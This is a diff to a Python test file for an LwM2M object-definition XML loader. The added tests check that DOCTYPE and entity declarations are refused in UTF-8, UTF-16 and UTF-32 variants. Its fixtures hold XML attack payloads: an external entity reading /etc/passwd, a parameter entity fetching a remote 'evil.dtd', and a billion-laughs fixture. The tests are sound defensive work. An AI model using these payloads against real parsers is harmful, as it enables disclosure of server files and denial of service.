@@ -252,23 +252,88 @@ EXTERNAL_ENTITY = """<?xml version="1.0"?>
 """
 
 
+INTERNAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE LWM2M [<!ENTITY name "Widget">]>
+<LWM2M><Object><Name>&name;</Name></Object></LWM2M>
+"""
+
+PARAMETER_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE LWM2M [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
+<LWM2M/>
+"""
+
+EXTERNAL_GENERAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE LWM2M [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<LWM2M><Object><Name>&secret;</Name></Object></LWM2M>
+"""
+
+PLAIN_DOCTYPE = '<?xml version="1.0"?>\n<!DOCTYPE LWM2M>\n' + USER_DDF.split("?>", 1)[1]
+
+EVIL_DOCUMENTS = {
+    "billion-laughs": BILLION_LAUGHS,
+    "external-dtd": EXTERNAL_ENTITY,
+    "internal-entity": INTERNAL_ENTITY,
+    "parameter-entity": PARAMETER_ENTITY,
+    "external-entity": EXTERNAL_GENERAL_ENTITY,
+    "plain-doctype": PLAIN_DOCTYPE,
+}
+
+# (codec, byte order mark written by hand or None, label of the XML declaration)
+ENCODINGS = {
+    "utf-8": ("utf-8", None, "UTF-8"),
+    "utf-8-bom": ("utf-8", codecs.BOM_UTF8, "UTF-8"),
+    "utf-16": ("utf-16", None, "UTF-16"),  # the codec writes a BOM
+    "utf-16le": ("utf-16-le", None, "UTF-16"),
+    "utf-16be": ("utf-16-be", None, "UTF-16"),
+    "utf-32": ("utf-32", None, "UTF-32"),  # the codec writes a BOM
+    "utf-32le": ("utf-32-le", None, "UTF-32"),
+    "utf-32be": ("utf-32-be", None, "UTF-32"),
+    "utf-32le-bom": ("utf-32-le", codecs.BOM_UTF32_LE, "UTF-32"),
+    "utf-32be-bom": ("utf-32-be", codecs.BOM_UTF32_BE, "UTF-32"),
+}
+
+
+def _encoded(doc: str, encoding: str) -> bytes:
+    codec, bom, label = ENCODINGS[encoding]
+    doc = doc.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{label}"?>')
+    return (bom or b"") + doc.encode(codec)
+
+
+@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
+@pytest.mark.parametrize("doc", sorted(EVIL_DOCUMENTS))
+def test_doctype_and_entities_are_refused_in_every_encoding(doc: str, encoding: str) -> None:
+    with pytest.raises(DecodeError, match=r"^evil\.xml: DOCTYPE declarations are not allowed"):
+        load_ddf_bytes(_encoded(EVIL_DOCUMENTS[doc], encoding), "evil.xml")
+
+
+@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
+def test_every_encoding_of_a_good_document_loads(encoding: str) -> None:
+    doc = USER_DDF.replace('<?xml version="1.0" encoding="utf-8"?>', '<?xml version="1.0"?>')
+    assert load_ddf_bytes(_encoded(doc, encoding)) == load_ddf_bytes(USER_DDF.encode())
+
+
+def test_the_refusal_names_the_line_and_column() -> None:
+    with pytest.raises(DecodeError, match=r"\(line 2, column \d+\)$"):
+        load_ddf_bytes(BILLION_LAUGHS.encode(), "evil.xml")
+
+
 @pytest.mark.parametrize(
-    ("doc", "kind"),
+    "doc",
     [
-        (BILLION_LAUGHS, "DOCTYPE"),
-        (EXTERNAL_ENTITY, "DOCTYPE"),
-        ("<!entity x 'y'><LWM2M/>", "ENTITY"),
-        ("<! DOCTYPE LWM2M><LWM2M/>", "DOCTYPE"),
+        "<!entity x 'y'><LWM2M/>",  # not a declaration outside a DTD: a syntax error
+        "<! DOCTYPE LWM2M><LWM2M/>",
+        "<LWM2M><Object><Name>&undeclared;</Name></Object></LWM2M>",
     ],
 )
-def test_doctype_and_entities_are_refused(doc: str, kind: str) -> None:
-    with pytest.raises(DecodeError, match=f"^evil.xml: {kind} declarations are not allowed"):
+def test_declaration_look_alikes_and_undeclared_entities_are_not_well_formed(doc: str) -> None:
+    with pytest.raises(DecodeError, match=r"^evil\.xml: not well-formed XML: "):
         load_ddf_bytes(doc.encode(), "evil.xml")
 
 
-def test_doctype_hidden_in_utf16_is_refused() -> None:
-    with pytest.raises(DecodeError, match="DOCTYPE declarations are not allowed"):
-        load_ddf_bytes(BILLION_LAUGHS.encode("utf-16"), "evil.xml")
+def test_predefined_entities_and_character_references_are_kept() -> None:
+    doc = USER_DDF.replace("<Name>Test Widget</Name>", "<Name>A &amp; B &#x3c;&#233;&gt;</Name>")
+    [obj] = load_ddf_bytes(doc.encode())
+    assert obj.name == "A & B <\u00e9>"
 
 
 # --- malformed documents -----------------------------------------------------
